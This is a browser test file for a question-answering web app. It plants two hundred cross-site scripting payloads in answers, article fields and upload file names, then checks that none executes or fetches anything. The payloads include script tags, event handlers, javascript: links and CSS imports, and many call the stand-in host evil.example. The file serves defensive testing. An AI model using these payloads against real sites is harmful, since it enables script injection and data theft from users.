"""Two hundred script injections through everything that the page shows: none runs, none fetches anything."""

import json
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from typing import TypeAlias

import pytest
from playwright.sync_api import Page, expect

from corpus.types import Article
from qa.service import Service
from qa.types import Answer, Citation, Confidence, Statement
from qa.web.html.answers import answer_html
from qa.web.i18n.phrases import ENGLISH
from qa.web.tabs.actions import Actions
from qa.web.tabs.holdings import Holdings
from qa.web.tabs.search_form import Search

pytestmark = pytest.mark.browser

Visit: TypeAlias = Callable[..., Page]
Running: TypeAlias = Callable[..., AbstractContextManager[str]]

RUN = "fetch('https://evil.example/?x');alert(1)"
CORES = [
    f"<script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    "<img src=https://evil.example/x.png>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<body onload="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    f'<a href="javascript:{RUN}">x</a>',
    "<a href=https://evil.example ping=https://evil.example/p>x</a>",
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<video src=x onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<video><source onerror="{RUN}"></video>',
    f'<object data="javascript:{RUN}"></object>',
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
    f'<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror="{RUN}"></style></mtext></svg></math>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><img src=x onerror="{RUN}"></template>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<x contenteditable onblur="{RUN}" tabindex=1 autofocus>x</x>',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "{{#each value}}<script>alert(1)</script>{{/each}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
]
WRAPPERS = ("{}", '">{}', "'>{}", "</p></h2></button></textarea></script>{}", '" onmouseover="alert(1)" x="{}')
PAYLOADS = [wrapper.replace("{}", core) for core in CORES for wrapper in WRAPPERS]


def in_a_file_name(payload: str) -> str:
    return payload.replace("/", "∕")[:120] + ".txt"


def _own(number: int) -> str:
    """Text that no other article has; near-duplicate articles would be shown as one."""
    return "".join(chr(0x4E00 + (number * 97 + place * 331) % 20_000) for place in range(60))


@pytest.fixture(scope="module")
def hostile_service(tmp_path_factory: pytest.TempPathFactory) -> Service:
    """Two hundred hostile articles, and uploaded files with names that no upload could have."""
    articles, home = tmp_path_factory.mktemp("articles"), tmp_path_factory.mktemp("home")
    records = [
        {
            "title": f"{number} {payload}",
            "source": payload,
            "date": f"2022-{number % 12 + 1:02d}-01",
            "url": f"javascript:alert({number})" if number % 2 else f"https://evil.example/{payload}",
            "text": f"第{number}篇讲卡祖笛。{payload}到此为止。{_own(number)}。",
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    (articles / "all.jsonl").write_text("\n".join(map(json.dumps, records)), "utf-8")
    (home / "uploads").mkdir()
    for payload in PAYLOADS:
        (home / "uploads" / in_a_file_name(payload)).write_text("卡祖笛。", "utf-8")
    service = Service(home, model="hashing")
    service.rebuild([articles])
    return service


@pytest.fixture(scope="module")
def hostile_url(hostile_service: Service, running: Running) -> Iterator[str]:
    with running(hostile_service) as address:
        yield address


def put(page: Page, html: str) -> None:
    """Insert HTML from the server as the page's scripts do, and let it run if it can; no active element may remain."""
    page.evaluate(
        "html => { document.getElementById('put')?.remove(); const put = document.createElement('div');"
        " put.id = 'put'; document.body.append(put); put.innerHTML = html; }",
        html,
    )
    page.evaluate("() => new Promise(done => setTimeout(done, 300))")
    assert (
        page.locator("#put").locator("script, iframe, img, svg, object, embed, link, style, form, video").count() == 0
    )


def _said(payload: str) -> Answer:
    """An answer in which every part is hostile."""
    article = Article("a1", payload, payload, payload, None, payload, payload)
    return Answer(
        payload,
        payload,
        True,
        Confidence.HIGH,
        (Citation(1, article, 0, len(payload), payload),),
        (),
        statements=(Statement(payload, (1,), verbatim=False),),
        lead=payload,
        notice=payload,
        asked=f"{payload}?",
        unverified=(payload,),
    )


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) == 200


def test_no_question_and_no_part_of_an_answer_runs(visit: Visit, hostile_url: str) -> None:
    page = visit(at=hostile_url, locale="en-GB")
    put(page, "".join(answer_html(_said(payload), ENGLISH, link="?q=x") for payload in PAYLOADS))
    for part in (".qa-asked", ".qa-lead", ".qa-notice", ".qa-unverified s", "blockquote mark"):
        assert page.locator(f"#put {part}").all_text_contents() == PAYLOADS, part
    numbered = [f"{payload}1 {ENGLISH['written']}" for payload in PAYLOADS]
    assert page.locator("#put .qa-sentence").all_text_contents() == numbered
    for payload in PAYLOADS[2:200:40]:  # some of them asked as a user would
        page.locator("#question textarea").fill(payload)
        page.locator("#ask").click()
        expect(page.locator("#answer .qa-asked")).to_have_text(payload)


def test_no_article_runs(visit: Visit, hostile_url: str, hostile_service: Service) -> None:
    actions = Actions(hostile_service)
    page = visit(at=hostile_url, locale="en-GB")
    put(page, "".join(actions.search(Search("卡祖笛", mode="bm25", k=200), ENGLISH, n) for n in range(1, 21)))
    assert page.locator("#put .qa-hit").count() == 200
    entries = Holdings(hostile_service).entries()
    put(page, "".join(actions.article(article.id, 0, 4, ENGLISH) for article, _, _ in entries))
    texts = "".join(page.locator("#put .qa-text").all_text_contents())
    assert sum(payload in texts for payload in PAYLOADS) >= 190  # some lose a tag when the file is read
    links = page.locator("#put a").evaluate_all("links => links.map(link => link.href)")
    assert all(link.startswith("https://evil.example/") for link in links)  # shown, but never followed


def test_no_title_source_or_file_name_runs(visit: Visit, hostile_url: str) -> None:
    page = visit(at=hostile_url, locale="en-GB")
    page.get_by_role("tab", name="Articles").click()
    for number in range(1, 5):
        expect(page.locator("#qa-table .qa-pager")).to_contain_text(f"Page {number} of 4")
        expect(page.locator(".qa-articles tbody tr")).to_have_count(50)
        if number < 4:
            page.locator("#qa-table").get_by_role("button", name="Next").click()
    names = page.locator("#qa-lists li:has([data-job=remove]) > span").all_text_contents()
    assert sorted(names) == sorted({in_a_file_name(payload) for payload in PAYLOADS})
    page.locator(".qa-articles .qa-open").first.click()
    expect(page.locator("dialog[open] .qa-text")).to_contain_text("卡祖笛")
    page.keyboard.press("Escape")
    page.get_by_role("tab", name="Charts").click()
    expect(page.locator("#map .scatterlayer .trace").first).to_be_attached()
    assert page.locator("#months, #map").locator("script, iframe, img, a").count() == 0
